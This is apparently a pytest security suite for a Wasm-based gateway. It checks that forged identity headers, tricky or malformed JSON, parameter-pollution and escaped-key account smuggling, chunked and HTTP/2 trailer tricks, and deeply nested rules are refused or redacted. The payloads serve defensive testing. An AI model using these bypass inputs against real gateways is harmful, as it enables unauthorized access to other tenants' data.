    "x_portcullis-accounts: qa",
]


def normalized(name):
    """How CGI-style backends (WSGI, PHP, Rack, nginx $http_*) see a header name:
    case-insensitive, `_` and `-` alike."""
    return name.strip().lower().replace("_", "-")


class TestIdentityHeaderAttacks:
    """Every spelling of a client-sent `x-portcullis-*` header, through the chain, to a
    backend that records the header list exactly (duplicates kept)."""

    def identity_seen(self, raw, marker):
        (record,) = [r for r in raw.requests if ("x-attack", marker) in r["headers"]]
        return [(normalized(k), v) for k, v in record["headers"] if normalized(k).startswith("x-portcullis-")]

    def test_forged_identity_headers_in_every_spelling_are_removed(self, attack_gw, raw, token):
        marker = "forged-all"
        lines = [tuple(l.split(": ", 1)) for l in FORGED_LINES] + [("x-attack", marker)]
        status, _, body, _ = raw_http(attack_gw.port, request_bytes("/atk/raw/whoami", token=token, headers=lines))
        assert status == 200, body
        seen = self.identity_seen(raw, marker)
        assert sorted(seen) == sorted([("x-portcullis-subject", "u1"), ("x-portcullis-tenant", "acme"),
                                       ("x-portcullis-accounts", "demostore")]), seen

    def test_forged_identity_headers_on_a_public_route(self, attack_gw, raw):
        marker = "forged-public"
        lines = [tuple(l.split(": ", 1)) for l in FORGED_LINES] + [("x-attack", marker)]
        status, _, _, _ = raw_http(attack_gw.port, request_bytes("/atk/raw/public", headers=lines))
        assert status == 200
        assert self.identity_seen(raw, marker) == [("x-portcullis-tenant", "acme")]

    @pytest.mark.parametrize("line", ["x-portcullis-subject : admin", "x-portcullis-subject\t: admin",
                                      " x-portcullis-subject: admin", "\tx-portcullis-subject: admin",
                                      "x-portcullis-subject\x00: admin", "x-portcullis-subject\r: admin"])
    def test_malformed_header_lines_never_carry_identity(self, attack_gw, raw, token, line):
        marker = f"malformed-line-{line.encode().hex()}"
        data = request_bytes("/atk/raw/whoami", token=token, headers=[("x-foo", "a")])
        data = data.replace(b"x-foo: a\r\n", b"x-foo: a\r\n" + line.encode() + b"\r\nx-attack: " + marker.encode() + b"\r\n")
        status, _, _, _ = raw_http(attack_gw.port, data)
        records = [r for r in raw.requests if ("x-attack", marker) in r["headers"]]
        if not_2xx(status):
            assert not records
        else:
            # A folded line may end up inside another header's value: harmless. It must
            # never become an identity header.
            seen = self.identity_seen(raw, marker)
            assert ("x-portcullis-subject", "u1") in seen and all("admin" not in v for _, v in seen), seen

    def test_forged_configured_forward_headers_on_the_demo(self, demo, token):
        r = demo.get("/whoami", token=token, headers={"X-PORTCULLIS-SUBJECT": "admin", "x_portcullis_accounts": "qa"})
        assert r.status_code == 200
        seen = {normalized(k): v for k, v in r.json().items() if normalized(k).startswith("x-portcullis-")}
        assert seen == {"x-portcullis-subject": "u1", "x-portcullis-tenant": "acme",
                        "x-portcullis-accounts": "demostore"}, seen


# === redaction ===============================================================================

def compact(value):
    return json.dumps(value, separators=(",", ":")).encode()


class TestRedactionAttacks:
    """A redacting route (`/accounts/demostore/contracts/{id}`: the demo user's grant hides
    `user.cpf` and `mother`) whose backend answers in ways a naive filter would pass
    through. The client gets the body redacted, or a 502: never a secret."""

    def fetch(self, demo, token, case, answer, override, headers=None):
        path = f"/accounts/demostore/contracts/atk-{case}"
        override(path, answer)
        r = demo.get(path, token=token, headers=headers)
        assert not leaks(r.content), (case, r.status_code, r.content[:300])
        return r

    def test_control_plain_json_is_redacted(self, demo, token, override):
        r = self.fetch(demo, token, "control", (200, {"content-type": "application/json"}, compact(contract())), override)
        assert r.status_code == 200
        body = r.json()
        assert "mother" not in body and "cpf" not in body["user"] and body["user"]["name"] == "U"

    @pytest.mark.parametrize("encoding", ["gzip", "br", "deflate", "identity, gzip", "gzip, identity", "GZIP",
                                          "x-gzip", "compress", "zstd", "identity,br", " gzip "])
    def test_compressed_or_mislabelled_encodings_fail_closed(self, demo, token, override, encoding):
        plain = compact(contract())
        body = {"gzip": gzip.compress(plain), "deflate": zlib.compress(plain)}.get(encoding.strip().lower(), plain)
        r = self.fetch(demo, token, f"enc-{encoding.strip().replace(' ', '').replace(',', '-')}",
                       (200, {"content-type": "application/json", "content-encoding": encoding}, body), override)
        assert r.status_code == 502, (encoding, r.status_code)

    @pytest.mark.parametrize("ctype", ["application/json-seq", "text/json", "text/plain", "text/html",
                                       "application/x-ndjson", "application/jsonx", "application/javascript",
                                       "application/octet-stream", "multipart/mixed; boundary=x", None,
                                       "application/json+xml", "json", "application/ json"])
    def test_non_json_content_types_fail_closed(self, demo, token, override, ctype):
        headers = {"content-type": ctype} if ctype else {}
        case = "".join(c if c.isalnum() else "-" for c in ctype or "none")
        r = self.fetch(demo, token, f"ctype-{case}",
                       (200, headers, compact(contract())), override)
        assert r.status_code == 502, (ctype, r.status_code)

    @pytest.mark.parametrize("ctype", ["application/json; charset=utf-8", "Application/JSON",
                                       "application/vnd.api+json", "application/problem+json"])
    def test_json_content_types_are_redacted(self, demo, token, override, ctype):
        r = self.fetch(demo, token, "jtype-" + "".join(c if c.isalnum() else "-" for c in ctype),
                       (200, {"content-type": ctype}, compact(contract())), override)
        assert r.status_code == 200

    def test_huge_body_fails_closed(self, demo, token, override):
        body = compact([contract(f"c{i}") for i in range(6000)])
        assert len(body) > 1024 * 1024
        r = self.fetch(demo, token, "huge", (200, {"content-type": "application/json"}, body), override)
        assert r.status_code == 502

    def test_body_just_under_the_limit_is_redacted(self, demo, token, override):
        items, size = [], 2
        while size + len(compact(contract(f"c{len(items)}"))) + 1 < 1000 * 1024:
            size += len(compact(contract(f"c{len(items)}"))) + 1
            items.append(contract(f"c{len(items)}"))
        assert len(compact(items)) < 1024 * 1024
        r = self.fetch(demo, token, "under-limit", (200, {"content-type": "application/json"}, compact(items)), override)
        assert r.status_code == 200 and len(r.json()) == len(items)

    @pytest.mark.parametrize("case,text", [
        ("duplicate-mother", '{"id":"1","contractOwner":"demostore","mother":{"name":"M"},"mother":{"name":"%s"}}' % SECRET_MOTHER),
        ("duplicate-user", '{"id":"1","contractOwner":"demostore","user":{"cpf":"x"},"user":{"cpf":"%s"}}' % SECRET_CPF),
        ("duplicate-cpf", '{"id":"1","contractOwner":"demostore","user":{"cpf":"x","cpf":"%s"}}' % SECRET_CPF),
        ("escaped-key", '{"id":"1","contractOwner":"demostore","m\\u006fther":{"name":"%s"}}' % SECRET_MOTHER),
        ("escaped-key-upper-hex", '{"id":"1","contractOwner":"demostore","m\\u006Fther":"%s"}' % SECRET_MOTHER),
        ("fully-escaped-key", '{"id":"1","contractOwner":"demostore","\\u006d\\u006f\\u0074\\u0068\\u0065\\u0072":"%s"}' % SECRET_MOTHER),
        ("escaped-nested-key", '{"id":"1","contractOwner":"demostore","\\u0075ser":{"\\u0063pf":"%s"}}' % SECRET_CPF),
        ("escaped-solidus-key", '{"id":"1","contractOwner":"demostore","user":{"cp\\u0066":"%s"}}' % SECRET_CPF),
        ("array-wrapped", '{"id":"1","contractOwner":"demostore","user":[{"cpf":"%s"}]}' % SECRET_CPF),
        ("deep-arrays", '[[[{"contractOwner":"demostore","mother":"%s"}]]]' % SECRET_MOTHER),
        ("whitespace", ' {\n "id" : "1" ,\t"contractOwner":"demostore" , "mother" :\r\n "%s" } ' % SECRET_MOTHER),
    ])
    def test_tricky_json_is_still_redacted(self, demo, token, override, case, text):
        r = self.fetch(demo, token, case, (200, {"content-type": "application/json"}, text.encode()), override)
        assert r.status_code == 200, (case, r.status_code, r.text)
        json.loads(r.content)

    @pytest.mark.parametrize("case,body", [
        ("trailing-garbage", compact(contract()) + b"garbage"),
        ("two-documents", compact(contract()) + compact(contract())),
        ("nan", b'{"contractOwner":"demostore","n":NaN,"mother":"%s"}' % SECRET_MOTHER.encode()),
        ("comment", b'{"contractOwner":"demostore",/*x*/"mother":"%s"}' % SECRET_MOTHER.encode()),
        ("single-quotes", b"{'contractOwner':'demostore','mother':'%s'}" % SECRET_MOTHER.encode()),
        ("trailing-comma", b'{"contractOwner":"demostore","mother":"%s",}' % SECRET_MOTHER.encode()),
        ("bom", b"\xef\xbb\xbf" + compact(contract())),
        ("utf16", json.dumps(contract()).encode("utf-16")),
        ("invalid-utf8", b'{"contractOwner":"demostore","x":"\xff","mother":"%s"}' % SECRET_MOTHER.encode()),
        ("lone-surrogate", b'{"contractOwner":"demostore","x":"\\ud800","mother":"%s"}' % SECRET_MOTHER.encode()),
        ("too-deep", b"[" * 200 + compact(contract()) + b"]" * 200),
        ("truncated", compact(contract())[:-5]),
        ("unterminated-string", b'{"contractOwner":"demostore","mother":"%s' % SECRET_MOTHER.encode()),
        ("control-char", b'{"contractOwner":"demostore","x":"a\x01b","mother":"%s"}' % SECRET_MOTHER.encode()),
    ])
    def test_invalid_json_fails_closed(self, demo, token, override, case, body):
        r = self.fetch(demo, token, case, (200, {"content-type": "application/json"}, body), override)
        assert r.status_code == 502, (case, r.status_code)

    def test_range_requests_never_reach_the_backend(self, demo, backend, token, override):
        seen = {}

        def answer(record):
            seen.update({k.lower(): v for k, v in record["headers"].items()})
            return 200, {"content-type": "application/json"}, compact(contract())

        r = self.fetch(demo, token, "range", answer, override,
                       headers={"range": "bytes=0-20", "if-range": "x", "accept-encoding": "gzip, br"})
        assert r.status_code == 200
        assert "range" not in seen and "if-range" not in seen
        assert seen.get("accept-encoding") == "identity"

    def test_partial_content_answer_fails_closed(self, demo, token, override):
        r = self.fetch(demo, token, "206", (206, {"content-type": "application/json", "content-range": "bytes 0-9/100"},
                                            compact(contract())), override)
        assert r.status_code == 502

    @pytest.mark.parametrize("status", [201, 400, 403, 404, 500, 503])
    def test_error_statuses_are_redacted_too(self, demo, token, override, status):
        r = self.fetch(demo, token, f"status-{status}", (status, {"content-type": "application/json"}, compact(contract())),
                       override)
        assert r.status_code in (status, 502)

    def test_head_request_carries_no_body(self, demo, token, override):
        path = "/accounts/demostore/contracts/atk-head"
        override(path, (200, {"content-type": "application/json"}, compact(contract())))
        r = demo.get(path, token=token, method="HEAD")
        assert r.content == b"" and r.status_code in (200, 502)


class TestRedactionTransportAttacks:
    """A backend that misbehaves at the transport level (raw socket): chunked bodies,
    trailers, bodies cut short, duplicate headers. Route `/atk/raw/contract/*` redacts like
    the demo contract and blocks foreign owners."""

    def get(self, attack_gw, raw, token, case, answer):
        path = f"/atk/raw/contract/{case}"
        raw.script[path] = answer
        try:
            status, headers, body, received = raw_http(attack_gw.port, request_bytes(path, token=token))
        finally:
            raw.script.pop(path, None)
        assert not leaks(received), (case, received[:400])
        return status, body

    def test_chunked_body_is_redacted(self, attack_gw, raw, token):
        body = compact(contract())
        status, out = self.get(attack_gw, raw, token, "chunked", http_response(
            200, {"content-type": "application/json", "transfer-encoding": "chunked"}) + chunked(body, 5))
        assert status == 200 and json.loads(out)["id"] == "atk"

    def test_chunked_body_with_trailers_is_redacted(self, attack_gw, raw, token):
        body = compact(contract())
        status, out = self.get(attack_gw, raw, token, "trailers", http_response(
            200, {"content-type": "application/json", "transfer-encoding": "chunked", "trailer": "x-checksum"})
            + chunked(body, 9, trailers={"x-checksum": "1"}))
        assert status in (200, 502), status
        if status == 200:
            assert "mother" not in json.loads(out)

    def test_foreign_owner_with_trailers_is_blocked(self, attack_gw, raw, token):
        body = compact(contract(owner="qa") | {"leak": SECRET_QA})
        status, out = self.get(attack_gw, raw, token, "trailers-foreign", http_response(
            200, {"content-type": "application/json", "transfer-encoding": "chunked"})
            + chunked(body, 9, trailers={"x-checksum": "1"}))
        assert status == 502, (status, out)

    def test_slow_body_is_redacted(self, attack_gw, raw, token):
        body = compact(contract())
        status, out = self.get(attack_gw, raw, token, "slow", [
            http_response(200, {"content-type": "application/json", "content-length": str(len(body))}),
            0.3, body[:20], 0.5, body[20:]])
        assert status == 200 and "mother" not in json.loads(out)

    def test_close_delimited_body_is_redacted(self, attack_gw, raw, token):
        body = compact(contract())
        head = b"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\nconnection: close\r\n\r\n"
        status, out = self.get(attack_gw, raw, token, "close-delimited", head + body)
        assert status in (200, 502)
        if status == 200:
            assert "mother" not in json.loads(out)

    @pytest.mark.parametrize("cut", [10, 60, 150])
    def test_body_cut_short_by_the_backend_never_reaches_the_client(self, attack_gw, raw, token, cut):
        body = compact(contract())
        status, out = self.get(attack_gw, raw, token, f"cut-{cut}", [
            http_response(200, {"content-type": "application/json", "content-length": str(len(body) + 500)}),
            body[:cut], 0.2, None])
        assert not_2xx(status) or not out, (status, out)

    def test_chunked_body_cut_short_never_reaches_the_client(self, attack_gw, raw, token):
        body = compact(contract())
        status, out = self.get(attack_gw, raw, token, "chunk-cut", [
            http_response(200, {"content-type": "application/json", "transfer-encoding": "chunked"}),
            chunked(body, 16)[:-5], 0.2, None])
        assert not_2xx(status) or not out, (status, out)

    def test_content_length_shorter_than_the_body(self, attack_gw, raw, token):
        body = compact(contract())
        status, _ = self.get(attack_gw, raw, token, "short-length", http_response(
            200, {"content-type": "application/json", "content-length": "40"}, body))
        assert status == 502

    def test_duplicate_content_encoding_headers(self, attack_gw, raw, token):
        body = gzip.compress(compact(contract()))
        for n, pairs in enumerate([[("content-encoding", "identity"), ("content-encoding", "gzip")],
                                   [("content-encoding", "gzip"), ("content-encoding", "identity")]]):
            status, _ = self.get(attack_gw, raw, token, f"dup-encoding-{n}", http_response(
                200, [("content-type", "application/json")] + pairs, body))
            assert status == 502, (pairs, status)

    def test_duplicate_content_type_headers(self, attack_gw, raw, token):
        for n, pairs in enumerate([[("content-type", "application/json"), ("content-type", "text/html")],
                                   [("content-type", "text/html"), ("content-type", "application/json")]]):
            status, out = self.get(attack_gw, raw, token, f"dup-ctype-{n}", http_response(200, pairs, compact(contract())))
            assert status in (200, 502), status

    def test_content_length_and_chunked_together(self, attack_gw, raw, token):
        body = compact(contract())
        status, _ = self.get(attack_gw, raw, token, "cl-te", http_response(
            200, {"content-type": "application/json", "content-length": "10", "transfer-encoding": "chunked"})
            + chunked(body))
        assert not_2xx(status)

    def test_the_gateway_keeps_serving_after_transport_faults(self, attack_gw, token):
        r = attack_gw.get("/accounts/demostore/contracts/123-456", token=token)
        assert r.status_code == 200 and "mother" not in r.json()


# === account leaks ===========================================================================

def no_account_named(text):
    return '"qa"' not in text and SECRET_QA not in text and "demostore" not in text


class TestAccountLeakAttacks:
    """Response side: a backend bug puts another account's data in the body, in every
    shape. Request side: the account id smuggled past the check."""

    @pytest.mark.parametrize("case,text", [
        ("plain", '{"id":"1","contractOwner":"qa","leak":"%s"}'),
        ("duplicate-key-last", '{"id":"1","contractOwner":"demostore","contractOwner":"qa","leak":"%s"}'),
        ("duplicate-key-first", '{"id":"1","contractOwner":"qa","contractOwner":"demostore","leak":"%s"}'),
        ("escaped-value", '{"id":"1","contractOwner":"q\\u0061","leak":"%s"}'),
        ("escaped-key", '{"id":"1","contract\\u004fwner":"qa","leak":"%s"}'),
        ("array-of-owners", '{"id":"1","contractOwner":["demostore","qa"],"leak":"%s"}'),
        ("nested-array-owner", '{"id":"1","contractOwner":[["demostore"],[["qa"]]],"leak":"%s"}'),
        ("object-owner", '{"id":"1","contractOwner":{"id":"qa"},"leak":"%s"}'),
        ("empty-object-owner", '{"id":"1","contractOwner":{},"leak":"%s"}'),
        ("top-level-array", '[{"id":"1","contractOwner":"demostore"},{"id":"2","contractOwner":"qa","leak":"%s"}]'),
        ("nested-top-level-arrays", '[[[{"id":"2","contractOwner":"qa","leak":"%s"}]]]'),
        ("number-owner", '{"id":"1","contractOwner":12345,"leak":"%s"}'),
        ("boolean-owner", '{"id":"1","contractOwner":true,"leak":"%s"}'),
        ("empty-string-owner", '{"id":"1","contractOwner":"","leak":"%s"}'),
        ("case-variant-owner", '{"id":"1","contractOwner":"DEMOSTORE","leak":"%s"}'),
        ("parent-account-owner", '{"id":"1","contractOwner":"acme","leak":"%s"}'),
        ("whitespace-owner", '{"id":"1","contractOwner":" demostore","leak":"%s"}'),
        ("nul-suffixed-owner", '{"id":"1","contractOwner":"demostore\\u0000qa","leak":"%s"}'),
    ])
    def test_foreign_owner_in_a_single_contract_is_blocked(self, demo, token, override, case, text):
        path = f"/accounts/demostore/contracts/atk-owner-{case}"
        override(path, (200, {"content-type": "application/json"}, (text % SECRET_QA).encode()))
        r = demo.get(path, token=token)
        assert r.status_code == 502, (case, r.status_code, r.text)
        assert no_account_named(r.text), r.text

    def test_null_owner_names_nobody(self, demo, token, override):
        path = "/accounts/demostore/contracts/atk-owner-null"
        override(path, (200, {"content-type": "application/json"}, b'{"id":"1","contractOwner":null}'))
        assert demo.get(path, token=token).status_code == 200

    def filtered(self, attack_gw, raw, token, case, items):
        path = f"/atk/raw/contracts/{case}"
        raw.script[path] = http_response(200, {"content-type": "application/json"},
                                         items if isinstance(items, bytes) else compact(items))
        try:
            status, _, body, received = raw_http(attack_gw.port, request_bytes(path, token=token))
        finally:
            raw.script.pop(path, None)
        assert not leaks(received), (case, received[:400])
        return status, body

    def test_array_of_mixed_owners_loses_the_foreign_elements(self, attack_gw, raw, token):
        items = [contract("a"), contract("b", "qa") | {"leak": SECRET_QA}, contract("c"),
                 contract("d", "crontech") | {"leak": SECRET_QA}, contract("e", "QA") | {"leak": SECRET_QA}]
        status, body = self.filtered(attack_gw, raw, token, "mixed", items)
        assert status == 200
        assert [c["id"] for c in json.loads(body)] == ["a", "c"]

    def test_every_element_foreign_gives_an_empty_array(self, attack_gw, raw, token):
        status, body = self.filtered(attack_gw, raw, token, "all-foreign",
                                     [contract(str(i), "qa") | {"leak": SECRET_QA} for i in range(3)])
        assert status == 200 and json.loads(body) == []

    @pytest.mark.parametrize("case,text", [
        ("duplicate-owner", '[{"id":"a","contractOwner":"demostore"},{"id":"b","contractOwner":"demostore","contractOwner":"qa","leak":"%s"}]'),
        ("escaped-owner", '[{"id":"a","contractOwner":"demostore"},{"id":"b","contractOwner":"\\u0071a","leak":"%s"}]'),
        ("owner-array", '[{"id":"a","contractOwner":"demostore"},{"id":"b","contractOwner":["demostore","qa"],"leak":"%s"}]'),
        ("deeper-arrays", '[[{"id":"b","contractOwner":"qa","leak":"%s"}],{"id":"a","contractOwner":"demostore"}]'),
        ("owner-nested-arrays", '[{"id":"a","contractOwner":"demostore"},{"id":"b","contractOwner":[[["qa"]]],"leak":"%s"}]'),
    ])
    def test_foreign_element_in_any_shape_is_removed(self, attack_gw, raw, token, case, text):
        status, body = self.filtered(attack_gw, raw, token, case, (text % SECRET_QA).encode())
        assert status == 200, (case, status)
        assert [c["id"] for c in json.loads(body) if isinstance(c, dict)] == ["a"]

    @pytest.mark.parametrize("case,text", [
        ("object-owner", '[{"id":"a","contractOwner":"demostore"},{"id":"b","contractOwner":{"id":"qa"},"leak":"%s"}]'),
        ("object-instead-of-array", '{"id":"b","contractOwner":"qa","leak":"%s"}'),
    ])
    def test_unforeseen_shapes_block_or_filter(self, attack_gw, raw, token, case, text):
        status, body = self.filtered(attack_gw, raw, token, case, (text % SECRET_QA).encode())
        assert status in (200, 502), status
        if status == 502:
            assert no_account_named(body.decode())

    # -- request side (attack_gw routes: query:account, header:x-account-id, body:account.id)

    @pytest.mark.parametrize("query", [
        "account=qa", "account=demostore&account=qa", "account=qa&account=demostore",
        "acc%6Funt=qa&account=demostore", "account=demostore&acc%6funt=qa", "account=q%61",
        "account=demostore%00", "account=demostore;account=qa", "account=demostore&account",
        "account=demostore,qa", "account=demostore%2Cqa", "account=demostore+", "account=%20demostore",
        "account=demostore&ACCOUNT=qa", "account=demostore&Account=qa", "account=demostore&account[]=qa",
        "account[]=qa&account=demostore", "account[0]=qa", "account=demostore&account%5B%5D=qa",
        "", "account=", "x=demostore",
    ])
    def test_query_account_smuggling_is_refused(self, attack_gw, backend, token, query):
        marker = f"query-{query}"
        r = attack_gw.get(f"/atk/query?{query}", token=token, headers={"x-attack": marker})
        assert r.status_code == 403, (query, r.status_code)
        assert not backend_saw(backend, marker)

    def test_query_account_of_the_caller_passes(self, attack_gw, token):
        assert attack_gw.get("/atk/query?account=demostore&x=1", token=token).status_code == 200

    @pytest.mark.parametrize("pairs", [
        [("x-account-id", "qa")],
        [("x-account-id", "demostore"), ("x-account-id", "qa")],
        [("x-account-id", "demostore,qa")],
        [("X-Account-Id", "demostore"), ("x_account_id", "qa")],
        [("x_account_id", "qa")],
        [("x-account-id", "demostore"), ("X_ACCOUNT_ID", "qa")],
        [("x-account-id", "demostore qa")],
        [("x-account-id", "")],
        [("x-account-id", "%71a")],
    ], ids=lambda p: repr(p))
    def test_header_account_smuggling_is_refused(self, attack_gw, backend, token, pairs):
        marker = f"header-{pairs!r}"
        status, _, _, _ = raw_http(attack_gw.port, request_bytes("/atk/header", token=token,
                                                               headers=pairs + [("x-attack", marker)]))
        assert not_2xx(status), (pairs, status)
        assert not backend_saw(backend, marker)

    def test_header_account_of_the_caller_passes(self, attack_gw, token):
        status, _, _, _ = raw_http(attack_gw.port, request_bytes("/atk/header", token=token,
                                                               headers=[("x-account-id", " demostore ")]))
        assert status == 200

    @pytest.mark.parametrize("body", [
        '{"account":{"id":"qa"}}',
        '{"account":{"id":"demostore","id":"qa"}}',
        '{"account":{"id":"qa","id":"demostore"}}',
        '{"account":{"id":"demostore","\\u0069d":"qa"}}',
        '{"account":{"id":"demostore"},"acc\\u006funt":{"id":"qa"}}',
        '{"account":{"id":"demostore","ID":"qa"}}',
        '{"account":{"id":"demostore","Id":"qa"}}',
        '{"Account":{"id":"qa"},"account":{"id":"demostore"}}',
        '{"account":{"id":"demostore"},"ACCOUNT":{"ID":"qa"}}',
        '{"account":{"id":"q\\u0061"}}',
        '{"account":[{"id":"demostore"},{"id":"qa"}]}',
        '{"account":{"id":["demostore","qa"]}}',
        '{"account":{"id":{"id":"qa"}}}',
        '{"account":{"id":"demostore%00"}}',
        '{"account":{"id":"demostore","x":1',
        '{"account":{"id":"demostore"}} {"account":{"id":"qa"}}',
        "account.id=qa",
        '\ufeff{"account":{"id":"demostore"}}',
        "",
        '{"account":{}}',
        '{"account":{"id":null}}',
    ])
    def test_body_account_smuggling_is_refused(self, attack_gw, backend, token, body):
        marker = f"body-{body.encode().hex()}"
        r = attack_gw.get("/atk/body", token=token, method="POST", data=body.encode(),
                          headers={"content-type": "application/json", "x-attack": marker})
        # 400: malformed JSON, refused first by the authorization filter's body check.
        assert r.status_code in (400, 403), (body, r.status_code)
        assert not backend_saw(backend, marker)

    def test_body_account_of_the_caller_passes(self, attack_gw, token):
        r = attack_gw.get("/atk/body", token=token, method="POST", data=b'{"account":{"id":"demostore"}}',
                          headers={"content-type": "application/json"})
        assert r.status_code == 200

    def test_chunked_request_body_is_checked(self, attack_gw, raw, token):
        body = b'{"account":{"id":"qa"},"pad":"' + b"x" * 3000 + b'"}'
        data = request_bytes("/atk/raw/body", token=token, method="POST",
                             headers=[("content-type", "application/json"), ("transfer-encoding", "chunked"),
                                      ("x-attack", "chunked-body")]) + chunked(body, 100)
        status, _, _, _ = raw_http(attack_gw.port, data)
        assert status == 403
        assert not [r for r in raw.requests if ("x-attack", "chunked-body") in r["headers"]]

    def test_http2_request_body_with_trailers_is_checked(self, attack_gw, raw, token):
        """HTTP/2 (h2c, accepted by the demo listener) lets a client end the body with
        trailers: the body must still be checked before the backend sees it."""
        for n, (account, trailers) in enumerate([("qa", [("x-trailer", "1")]), ("qa", None)]):
            marker = f"h2-body-{n}"
            headers = [(":method", "POST"), (":scheme", "http"), (":path", "/atk/raw/body"),
                       (":authority", "acme.localhost"), ("authorization", f"Bearer {token}"),
                       ("content-type", "application/json"), ("x-attack", marker)]
            body = json.dumps({"account": {"id": account}}).encode()
            status, _ = H2.request(attack_gw.port, headers, [body[:10], body[10:]], trailers=trailers)
            assert status == 403, (n, status)
            assert not [r for r in raw.requests if ("x-attack", marker) in r["headers"]], f"case {n} reached the backend"
        # Control: the caller's own account passes, trailers and all.
        headers = [(":method", "POST"), (":scheme", "http"), (":path", "/atk/raw/body"),
                   (":authority", "acme.localhost"), ("authorization", f"Bearer {token}")]
        status, _ = H2.request(attack_gw.port, headers, [b'{"account":{"id":"demostore"}}'], trailers=[("x-t", "1")])
        assert status == 200

    def test_http2_headers_then_trailers_without_a_body(self, attack_gw, raw, token):
        headers = [(":method", "POST"), (":scheme", "http"), (":path", "/atk/raw/body"),
                   (":authority", "acme.localhost"), ("authorization", f"Bearer {token}"), ("x-attack", "h2-no-body")]
        status, _ = H2.request(attack_gw.port, headers, [], trailers=[("account", "qa")])
        assert status == 403, status
        assert not [r for r in raw.requests if ("x-attack", "h2-no-body") in r["headers"]]

    def test_request_body_over_the_limit_is_refused(self, attack_gw, backend, token):
        body = b'{"account":{"id":"demostore"},"pad":"' + b"x" * (1024 * 1024 + 10) + b'"}'
        r = attack_gw.get("/atk/body", token=token, method="POST", data=body,
                          headers={"content-type": "application/json", "x-attack": "big-body"})
        assert r.status_code in (403, 413)
        assert not backend_saw(backend, "big-body")


# === faults ==================================================================================

DEEP = 20_000


@pytest.fixture(scope="module")
def fault_gw(backend):
    """The demo configuration plus a route whose requirement nests `any(` 20,000 deep: a
    recursive parser would overflow the Wasm stack (a trap) on the first request."""
    deep = "GET: " + "any(" * DEEP + "contract:one:read" + ")" * DEEP
    routes = [_route("atk-deep", {"path": "/atk/deep"}, "backend", hold=False, requirement=deep, account="none")]
    with Envoy(attack_config(backend.port, 9, routes), name="faults") as envoy:
        yield envoy


TRAP_SIGNS = ("panic:", "failed: Uncaught", "wasm trap", "Wasm VM failed", "RuntimeError")


class TestFaults:
    """Filter faults fail closed: a request that makes a filter fail is refused, and the
    next requests still get (correct) answers."""

    def test_pathological_route_requirement_fails_closed_and_the_gateway_keeps_serving(
            self, fault_gw, backend, token):
        for n in range(3):
            r = fault_gw.get("/atk/deep", token=token, headers={"x-attack": f"deep-{n}"})
            assert not_2xx(r.status_code), r.status_code
            assert not backend_saw(backend, f"deep-{n}")
        for _ in range(5):
            assert fault_gw.get("/whoami", token=token).status_code == 200
            r = fault_gw.get("/accounts/demostore/contracts/123-456", token=token)
            assert r.status_code == 200 and "mother" not in r.json()
            assert fault_gw.get("/finance/reports", token=token).status_code == 403
        logs = fault_gw.logs()
        assert not [s for s in TRAP_SIGNS if s in logs], "a filter trapped:\n" + logs[-3000:]

    def test_no_filter_trapped_during_the_attacks(self, demo, attack_gw, token):
        for gw in (demo, attack_gw):
            assert gw.get("/whoami", token=token).status_code == 200
            logs = gw.logs()
            found = [s for s in TRAP_SIGNS if s in logs]
            assert not found, f"{found} in the logs:\n" + logs[-3000:]
